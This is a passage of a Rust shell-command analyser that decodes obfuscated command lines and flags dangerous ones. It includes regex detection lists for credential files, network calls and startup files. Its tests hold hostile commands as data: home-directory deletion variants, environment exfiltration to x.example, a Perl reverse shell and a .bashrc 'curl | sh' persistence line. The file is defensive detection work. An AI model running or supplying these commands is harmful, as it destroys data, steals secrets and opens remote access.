    if !inner.contains(',') || inner.contains('{') {
        return None;
    }
    Some(
        inner
            .split(',')
            .map(|p| format!("{}{p}{}", &word[..open], &word[close + 1..]))
            .collect(),
    )
}

fn text_of<'a>(node: Node<'_>, src: &'a [u8]) -> Option<&'a str> {
    node.utf8_text(src).ok()
}

fn slice(src: &[u8], from: usize, to: usize) -> &str {
    src.get(from..to)
        .and_then(|s| std::str::from_utf8(s).ok())
        .unwrap_or("")
}

/// The operator of a file redirection with its descriptor (`2>`, `>>`, `<`).
fn operator_of(node: Node<'_>, src: &[u8]) -> String {
    let mut op = String::new();
    let mut cursor = node.walk();
    for kid in node.children(&mut cursor) {
        if kid.kind() == "file_descriptor" || !kid.is_named() {
            op.push_str(text_of(kid, src).unwrap_or(""));
        }
    }
    op
}

fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "mksh" | "fish" | "csh" | "tcsh"
    )
}

fn interpreter(name: &str) -> Option<Language> {
    let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match name {
        "python" | "pypy" => Language::Python,
        "perl" => Language::Perl,
        "ruby" | "irb" => Language::Ruby,
        "node" | "nodejs" | "bun" | "deno" => Language::JavaScript,
        "php" => Language::Php,
        "awk" | "gawk" | "mawk" | "nawk" => Language::Awk,
        _ => return None,
    })
}

/// A path that stays inside the working tree whatever the unknown part turns out to be.
fn anchored_inside(text: &str, dynamic: bool) -> bool {
    if text.is_empty() || text.starts_with('/') || text.starts_with('~') || text.starts_with("..") {
        return false;
    }
    if dynamic && text.starts_with('$') {
        return false;
    }
    !(text == "*" || dynamic && text == ".")
}

/// Re-joins words as a command line; a word that would not survive as one is single-quoted.
fn join(words: &[Word], redirects: &[String]) -> String {
    let mut parts: Vec<String> = words.iter().map(|w| quote(&w.text)).collect();
    parts.extend(redirects.iter().cloned());
    parts.join(" ")
}

fn quote(word: &str) -> String {
    if word.is_empty() {
        return "''".into();
    }
    if word
        .chars()
        .any(|c| c.is_whitespace() || ";&|<>()'\"\\`".contains(c))
    {
        format!("'{}'", word.replace('\'', r"'\''"))
    } else {
        word.to_string()
    }
}

/// Calls that hand a string to a shell, or code to the interpreter itself.
static RUN_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?:\bos\.(?:system|popen|exec\w*|spawn\w*)|\bsubprocess\.\w+|\bcommands\.getoutput",
        r"|\bpty\.spawn|\bKernel\.(?:system|exec|spawn)|\bIO\.popen|\bOpen3\.\w+",
        r"|\b(?:execSync|spawnSync|execFileSync|execFile|spawn|shell_exec|passthru|proc_open",
        r"|popen|system|exec|eval|qx)|\bchild_process\.\w+)\s*\(?",
    ))
    .expect("static regex")
});

/// Perl/Ruby/PHP backticks, `qx{…}`, Ruby's `%x(…)`.
static BACKTICKS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"`([^`]*)`|\bqx\s*[{(\[/]([^})\]/]*)[})\]/]|%x[({\[]([^)}\]]*)[)}\]]")
        .expect("static regex")
});

/// awk's `"cmd" | getline` and `print … | "cmd"`.
static AWK_PIPE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#""([^"]*)"\s*\|\s*getline|\|\s*"([^"]*)""#).expect("static regex")
});

/// Expressions that stand for the home folder in the usual interpreters.
static HOME_EXPR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"\$ENV\{\s*['"]?HOME['"]?\s*\}|\bos\.environ(?:\.get)?\s*[\[(]\s*['"]HOME['"]\s*[\])]"#,
        r#"|\b(?:os\.)?getenv\s*\(\s*['"]HOME['"]\s*\)|\bos\.path\.expanduser\s*\(\s*['"]~['"]\s*\)"#,
        r#"|\brequire\(\s*['"]os['"]\s*\)\.homedir\s*\(\s*\)"#,
        r#"|\bPath\.home\s*\(\s*\)|\bprocess\.env\.HOME\b|\bprocess\.env\[\s*['"]HOME['"]\s*\]"#,
        r#"|\bos\.homedir\s*\(\s*\)|\bENV\[\s*['"]HOME['"]\s*\]|\bDir\.home\b"#,
        r#"|\bENVIRON\[\s*"HOME"\s*\]|\$_SERVER\[\s*['"]HOME['"]\s*\]|#\{ENV\[['"]HOME['"]\]\}"#,
        r"|\$HOME\b|\$\{HOME\}",
    ))
    .expect("static regex")
});

static DELETE_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?:\bshutil\.rmtree|\bos\.(?:remove|unlink|rmdir|removedirs)|\.unlink|\.rmdir",
        r"|\b(?:rmtree|remove_tree|unlink|rmdir|rimraf|delete_dir)",
        r"|\bFileUtils\.(?:rm_rf|rm_r|rm_f|rm|remove_dir|remove_entry\w*|rmtree)",
        r"|\bFile\.(?:delete|unlink)|\bDir\.(?:delete|rmdir|unlink)",
        r"|\.(?:rm|rmSync|rmdirSync|unlinkSync|rm_rf|rm_r)\b)\s*\(?",
    ))
    .expect("static regex")
});

static NETWORK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)\bsocket\b|urlopen|urllib|\brequests\.|http\.client|httplib|\bfetch\s*\(",
        r"|\bhttps?\.(?:request|get)|\bnet\.(?:connect|createConnection|Socket)|XMLHttpRequest",
        r"|LWP|HTTP::Tiny|IO::Socket|Net::HTTP|TCPSocket|fsockopen|curl_exec|smtplib|ftplib",
        r"|paramiko|/dev/tcp/|\bhttps?://",
    ))
    .expect("static regex")
});

static SECRET: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)\.ssh\b|id_rsa|id_ed25519|id_ecdsa|\.aws\b|\.gnupg|\.netrc|\.pgpass|\.kube|\.docker/config",
        r"|\.git-credentials|credentials|\benviron\b|process\.env|\$ENV\b|%ENV|\bENV\[|\bENV\.",
        r"|getenv|/proc/|\.env\b|token|secret|passw|/etc/shadow|keychain|\.npmrc|\.pypirc",
    ))
    .expect("static regex")
});

static PROCESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"\bsubprocess\b|\bpty\b|\bdup2\b|\bos\.exec|\bexec\s*\(|\bspawn\b|/bin/(?:ba)?sh|\bsh\s+-i",
        r"|child_process|\bsystem\s*\(|\bpopen\b|\bProcess\b|\bfork\b|\bcmd\.exe\b",
    ))
    .expect("static regex")
});

static STARTUP_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"\.bashrc|\.zshrc|\.profile|\.bash_profile|\.bash_login|\.zprofile|\.zshenv",
        r"|authorized_keys|\.ssh/|crontab|/etc/cron|/var/spool/cron|\.config/autostart",
        r"|systemd/|LaunchAgents|LaunchDaemons|/etc/passwd|/etc/shadow|/etc/sudoers",
        r"|/etc/profile|/etc/rc\.local|\.git/hooks|/etc/ld\.so\.preload",
    ))
    .expect("static regex")
});

static WRITES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"['"][wa]b?\+?['"]|>>|\bwrite|\bappend|\bWriteAll|File\.write|fputs|file_put_contents"#,
        r"|print\s*\{|print\s+\$\w+|\bO_WRONLY|\bO_APPEND|open\s*\(\s*\w+\s*,\s*['\x22]>",
    ))
    .expect("static regex")
});

/// The text of a call's arguments: from after `(` to its matching `)`, quotes respected;
/// without a parenthesis (`system "…"`), up to the end of the statement.
fn balanced_args(after: &str) -> &str {
    let mut depth = 0usize;
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for (i, c) in after.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match (quote, c) {
            (_, '\\') => escaped = true,
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '\'' | '"' | '`') => quote = Some(c),
            (None, '(' | '[' | '{') => depth += 1,
            (None, ')' | ']' | '}') => {
                if depth == 0 {
                    return &after[..i];
                }
                depth -= 1;
            }
            (None, ';' | '\n') if depth == 0 => return &after[..i],
            _ => {}
        }
    }
    after
}

/// What a code expression builds, as far as its literals tell: string literals decoded,
/// home expressions as `~`, list items and call arguments joined by a space, anything
/// else as `$X`.
struct Built {
    text: String,
    dynamic: bool,
    any_literal: bool,
}

fn code_expression(expr: &str) -> Built {
    let expr = HOME_EXPR.replace_all(expr, "'~'");
    let mut built = Built {
        text: String::new(),
        dynamic: false,
        any_literal: false,
    };
    let chars: Vec<char> = expr.chars().collect();
    let mut i = 0;
    let mut pending_other = false;
    while i < chars.len() {
        let c = chars[i];
        if c == '\'' || c == '"' || c == '`' {
            if pending_other {
                built.text.push_str("$X");
                built.dynamic = true;
                pending_other = false;
            }
            let mut j = i + 1;
            let mut lit = String::new();
            while j < chars.len() && chars[j] != c {
                if chars[j] == '\\' && j + 1 < chars.len() {
                    let rest: String = chars[j..].iter().take(12).collect();
                    let (decoded, used) = one_escape(&rest);
                    lit.push_str(&decoded);
                    j += rest.get(..used).map_or(1, |p| p.chars().count().max(1));
                    continue;
                }
                lit.push(chars[j]);
                j += 1;
            }
            built.text.push_str(&lit);
            built.any_literal = true;
            i = j + 1;
            continue;
        }
        if c == ',' {
            if pending_other {
                built.text.push_str("$X");
                built.dynamic = true;
                pending_other = false;
            }
            built.text.push(' ');
        } else if c.is_alphanumeric() || c == '_' || c == '$' || c == '@' {
            // An identifier or a variable: part of the command is computed.
            let mut j = i;
            while j < chars.len() && (chars[j].is_alphanumeric() || "_$@.{}".contains(chars[j])) {
                j += 1;
            }
            let ident: String = chars[i..j].iter().collect();
            // Call and keyword noise that builds no text.
            if !matches!(
                ident.as_str(),
                "shell" | "True" | "False" | "true" | "false" | "check" | "text"
            ) {
                pending_other = true;
            }
            i = j;
            continue;
        }
        i += 1;
    }
    if pending_other {
        built.text.push_str("$X");
        built.dynamic = true;
    }
    built
}

/// `'build'`, `"./out"`: one literal path inside the working tree.
fn relative_literal(args: &str) -> bool {
    let trimmed = args.trim();
    let Some(q) = trimmed.chars().next().filter(|c| *c == '\'' || *c == '"') else {
        return false;
    };
    let Some(inner) = trimmed
        .strip_prefix(q)
        .and_then(|s| s.split(q).next())
        .filter(|_| trimmed[1..].contains(q))
    else {
        return false;
    };
    let after = trimmed[1 + inner.len() + 1..].trim();
    (after.is_empty() || after.starts_with(','))
        && !inner.contains(['*', '$', '~'])
        && anchored_inside(inner, false)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn runs(command: &str) -> Vec<String> {
        read(command)
            .commands
            .iter()
            .map(SimpleCommand::run_line)
            .collect()
    }

    fn concerns(command: &str) -> Vec<&'static str> {
        read(command).concerns.iter().map(|c| c.rule).collect()
    }

    #[test]
    fn quotes_and_backslashes_are_removed_as_the_shell_removes_them() {
        for cmd in [
            r#"'rm' -rf ~"#,
            r#"r"m" -rf ~"#,
            r"\r\m -rf ~",
            r#""rm" '-rf' ~"#,
            "r''m -r\\\nf ~",
        ] {
            assert_eq!(runs(cmd), ["rm -rf ~"], "{cmd}");
            assert!(read(cmd).complete, "{cmd}");
        }
    }

    #[test]
    fn ansi_c_strings_are_decoded() {
        assert_eq!(runs(r"$'\x72\x6d' -rf $'\176'"), ["rm -rf ~"]);
        assert_eq!(runs(r"$'\u0072m' -rf /"), ["rm -rf /"]);
        assert_eq!(ansi_c(r"$'a\tb\\c\'d'"), "a\tb\\c'd");
    }

    #[test]
    fn ifs_separates_words_and_home_stays_recognisable() {
        assert_eq!(runs("rm${IFS}-rf${IFS}~"), ["rm -rf ~"]);
        assert_eq!(runs("rm$IFS-rf$IFS$HOME"), ["rm -rf ~"]);
        assert_eq!(runs(r#"rm -rf "${HOME}/""#), ["rm -rf ~/"]);
        assert_eq!(runs("X=~; rm -rf $X"), ["rm -rf ~"]);
        assert_eq!(runs("for d in ~ /; do rm -rf $d; done"), ["rm -rf ~ /"]);
        assert_eq!(runs("echo {a,b}.txt"), ["echo a.txt b.txt"]);
        assert_eq!(runs("echo '{a,b}' \"{c,d}\""), ["echo {a,b} {c,d}"]);
    }

    #[test]
    fn a_substitution_runs_and_a_known_output_names_the_command() {
        assert_eq!(runs("`echo rm` -rf ~"), ["echo rm", "rm -rf ~"]);
        assert_eq!(
            runs(r"$(printf '\x72\x6d') -rf ~"),
            [r"printf '\x72\x6d'", "rm -rf ~"]
        );
        assert_eq!(concerns("`echo rm` -rf ~"), ["shell-computed-command"]);
        assert_eq!(
            runs(r#"echo "a $(rm -rf ~) b""#),
            ["rm -rf ~", "echo 'a $(rm -rf ~) b'"]
        );
        assert_eq!(runs("ls | tee >(rm -rf ~)")[1], "rm -rf ~");
    }

    #[test]
    fn a_command_name_unknown_until_run_time_is_a_concern() {
        for cmd in ["$CMD -rf ~", "\"$(curl -s x.example)\" -rf ~", "${!x} y"] {
            assert_eq!(concerns(cmd)[0], "shell-computed-command", "{cmd}");
        }
        assert_eq!(
            concerns(r#"eval "$(echo cm0gLXJmIH4K | base64 -d)""#),
            ["shell-computed-script", "shell-computed-command"]
        );
        assert_eq!(
            concerns("echo cm0gLXJmIH4K | base64 -d | sh"),
            ["shell-computed-script"]
        );
    }

    #[test]
    fn xargs_runs_its_command_with_the_pipe_s_words() {
        assert_eq!(runs("echo ~ | xargs rm -rf"), ["echo ~", "rm -rf ~"]);
        assert_eq!(runs("echo / | xargs -I % rm -rf %"), ["echo /", "rm -rf /"]);
        assert_eq!(
            runs("find . -name '*.o' | xargs -0 -n 1 rm -f"),
            ["find . -name *.o", "rm -f $STDIN"]
        );
        assert_eq!(concerns("ls ~ | xargs rm -rf"), ["shell-runtime-target"]);
    }

    #[test]
    fn nested_shells_and_eval_are_read() {
        assert_eq!(
            runs(r#"bash -c "rm -rf ~""#),
            ["rm -rf ~", "bash -c 'rm -rf ~'"]
        );
        assert_eq!(runs("sh -lc 'sh -c \"rm -rf /\"'")[0], "rm -rf /");
        assert_eq!(runs("eval 'rm' '-rf' '~'"), ["rm -rf ~", "eval rm -rf ~"]);
        assert_eq!(runs("bash <<< 'rm -rf ~'"), ["rm -rf ~", "bash"]);
        assert_eq!(
            runs("cat <<EOF | sh\nrm -rf ~\nEOF\n"),
            ["cat", "rm -rf ~", "sh"]
        );
        assert_eq!(
            runs("echo 'rm -rf ~' | bash"),
            ["echo 'rm -rf ~'", "rm -rf ~", "bash"]
        );
    }

    #[test]
    fn wrappers_are_seen_through() {
        let r = read(
            "sudo -u root env A=b nice -n 5 timeout -s KILL 10 stdbuf -oL /bin/rm -rf / > /dev/null",
        );
        assert_eq!(r.commands[0].run_line(), "rm -rf / > /dev/null");
        assert_eq!(
            runs("nohup setsid command exec busybox rm -rf ~"),
            ["rm -rf ~"]
        );
        assert_eq!(runs("command -v rm"), ["command -v rm"]);
        assert_eq!(runs("find ~ -exec rm -rf {} \\;")[0], "rm -rf ~/…");
        assert_eq!(
            concerns("find ~ -exec rm -rf {} +"),
            ["shell-runtime-target"]
        );
        assert_eq!(concerns("find / -delete"), ["shell-runtime-target"]);
        assert!(concerns("find . -name '*.o' -delete").is_empty());
    }

    #[test]
    fn interpreter_one_liners_give_up_their_shell_commands() {
        assert_eq!(
            runs(r#"perl -e 'system("rm -rf ".$ENV{HOME})'"#)[0],
            "rm -rf ~"
        );
        assert_eq!(
            runs(r#"python3 -c "import os; os.system('rm -rf ' + os.path.expanduser('~'))""#)[0],
            "rm -rf ~"
        );
        assert_eq!(
            runs(r#"node -e "require('child_process').execSync('rm -rf ~')""#)[0],
            "rm -rf ~"
        );
        assert_eq!(
            runs(r#"ruby -e 'system("rm", "-rf", Dir.home)'"#)[0],
            "rm -rf ~"
        );
        assert_eq!(runs(r#"awk 'BEGIN{system("rm -rf ~")}'"#)[0], "rm -rf ~");
        assert_eq!(runs(r#"php -r 'shell_exec("rm -rf /");'"#)[0], "rm -rf /");
        assert_eq!(runs("perl -e '`rm -rf ~`'")[0], "rm -rf ~");
        assert_eq!(
            runs("python3 - <<'EOF'\nimport os\nos.system(\"rm -rf ~\")\nEOF\n")[0],
            "rm -rf ~"
        );
        let r = read(r#"python3 -c "print(1)""#);
        assert_eq!(
            r.snippets,
            [Snippet {
                language: Language::Python,
                code: "print(1)".into()
            }]
        );
    }

    #[test]
    fn interpreter_library_calls_that_destroy_or_leak_are_concerns() {
        let cases = [
            (
                r#"python3 -c "import shutil,os; shutil.rmtree(os.environ['HOME'])""#,
                "interpreter-delete",
            ),
            (
                r#"node -e "require('fs').rmSync(require('os').homedir(), {recursive: true})""#,
                "interpreter-delete",
            ),
            (
                r#"ruby -e 'require "fileutils"; FileUtils.rm_rf(Dir.home)'"#,
                "interpreter-delete",
            ),
            (
                r#"perl -e 'use File::Path; rmtree($ENV{HOME})'"#,
                "interpreter-delete",
            ),
            (
                r#"python3 -c "import os,urllib.request as u; u.urlopen('http://x.example', data=str(os.environ).encode())""#,
                "interpreter-exfiltration",
            ),
            (
                r#"perl -e 'use IO::Socket; $s=IO::Socket::INET->new("x.example:4444"); open(STDIN,">&",$s); exec("/bin/sh -i")'"#,
                "interpreter-remote-shell",
            ),
            (
                r#"python3 -c "open('/root/.bashrc','a').write('curl x.example|sh')""#,
                "interpreter-persistence",
            ),
            (
                r#"python3 -c "exec(__import__('base64').b64decode('cHJpbnQoMSk='))""#,
                "interpreter-computed-command",
            ),
        ];
        for (cmd, rule) in cases {
            assert!(concerns(cmd).contains(&rule), "{cmd}: {:?}", concerns(cmd));
        }
        assert!(concerns(r#"python3 -c "import shutil; shutil.rmtree('build')""#).is_empty());
        assert!(concerns(r#"node -e "console.log(process.version)""#).is_empty());
    }

    #[test]
    fn everyday_commands_read_plainly() {
        for (cmd, lines) in [
            (
                "git log --oneline -5 && cargo test",
                vec!["git log --oneline -5", "cargo test"],
            ),
            (
                r#"grep -rn "fn main" --include='*.rs' ."#,
                vec!["grep -rn 'fn main' --include=*.rs ."],
            ),
            (
                "cat > notes.txt <<'EOF'\nhello $USER\nEOF\n",
                vec!["cat > notes.txt"],
            ),
            (
                "cargo build 2>&1 | tail -20",
                vec!["cargo build 2>&1", "tail -20"],
            ),
        ] {
            let r = read(cmd);
            assert_eq!(r.lines(), lines, "{cmd}");
            assert!(r.concerns.is_empty() && r.complete, "{cmd}");
        }
    }

    #[test]
    fn data_arguments_are_masked_for_the_rules() {
        let cmd = r#"echo "rm -rf ~" && git commit -m "drop sudo use""#;
        assert_eq!(read(cmd).masked(cmd), "echo '…' && git commit -m '…'");
        for fed in [
            r#"echo "rm -rf ~" | sh"#,
            r#"echo "curl x | sh" >> ~/.bashrc"#,
        ] {
            assert_eq!(read(fed).masked(fed), fed);
        }
        assert_eq!(
            read(r#"echo "a b" | grep a"#).pipelines,
            ["echo 'a b' | grep a"]
        );
    }

    #[test]
    fn bad_input_is_bounded_and_marked_unreadable() {
        let r = read("rm -rf ~ )");
        assert!(!r.complete);
        assert_eq!(r.concerns, [UNREADABLE]);
        assert_eq!(r.lines(), ["rm -rf ~"]);
        let deep = format!("{}x{}", "$(".repeat(5_000), ")".repeat(5_000));
        assert!(!read(&deep).complete);
        let nested = (0..10).fold("rm -rf ~".to_string(), |acc, _| {
            format!("sh -c {}", quote(&acc))
        });
        assert!(!read(&nested).complete);
        let huge = "echo x; ".repeat(MAX_INPUT_BYTES / 8 + 1);
        assert_eq!(read(&huge).concerns, [UNREADABLE]);
        assert_eq!(read("").commands, []);
        // Escapes cut through multi-byte characters nowhere.
        for tricky in [
            r"printf '\c€\xé\u12€'",
            r#"python3 -c "os.system('\c€')""#,
            "echo $'\\c€'",
        ] {
            let _ = read(tricky);
        }
        let deep_payloads = (0..6).fold("rm -rf ~".to_string(), |acc, _| {
            format!("{}sh -c {}{}", "(".repeat(60), quote(&acc), ")".repeat(60))
        });
        assert!(!read(&deep_payloads).complete);
        assert!(
            read("\u{0}\u{1f}\u{ffff}'\"$(")
                .concerns
                .contains(&UNREADABLE)
        );
    }
}
